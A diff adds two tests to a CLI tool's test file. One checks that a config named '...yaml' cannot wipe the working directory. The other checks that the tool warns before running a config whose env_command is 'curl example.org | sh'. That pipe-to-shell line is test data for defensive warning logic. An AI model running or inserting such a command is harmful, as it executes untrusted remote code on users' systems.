@@ -73,3 +73,27 @@ def test_run_takes_the_config_file_as_c_like_the_stage_commands(tmp_path: Path):
     bad.write_text("train: [1, 2\n")
     assert_clean_failure(lmforge("run", "-c", str(bad), "-o", str(tmp_path / "r")), "malformed YAML")
     assert_clean_failure(lmforge("run", "-c", str(bad), str(bad), "-o", str(tmp_path / "r")), "two config files")
+
+
+def test_a_run_named_dot_dot_is_refused_before_anything_is_touched(tmp_path: Path):
+    """A config file called `...yaml` has the stem `..`: runs/.. is the working directory, whose
+    checkpoints a fresh run would clear."""
+    cfg = tmp_path / "...yaml"
+    cfg.write_text("train:\n  steps: 1\n")
+    keep = tmp_path / "checkpoints" / "step-5"
+    keep.mkdir(parents=True)
+    proc = subprocess.run([sys.executable, "-m", "lmforge", "run", str(cfg)], cwd=tmp_path, check=False,
+                          capture_output=True, text=True, timeout=300)
+    assert_clean_failure(proc, "not a folder of its own")
+    assert keep.is_dir() and sorted(p.name for p in tmp_path.iterdir()) == ["...yaml", "checkpoints"]
+
+
+def test_run_names_the_keys_that_would_run_commands_before_it_starts(tmp_path: Path):
+    """A config from someone else that runs a shell line on the cluster says so before any stage
+    starts (here the data stage then stops: this machine has no sbatch)."""
+    cfg = tmp_path / "other.yaml"
+    cfg.write_text("data:\n  executor: slurm\n  slurm:\n    partition: p\n    env_command: curl example.org | sh\n")
+    out = lmforge("run", str(cfg), "-o", str(tmp_path / "r"))
+    text = out.stdout + out.stderr
+    assert "data.slurm.env_command='curl example.org | sh'" in text, text
+    assert text.index("env_command") < text.index("data: running"), text
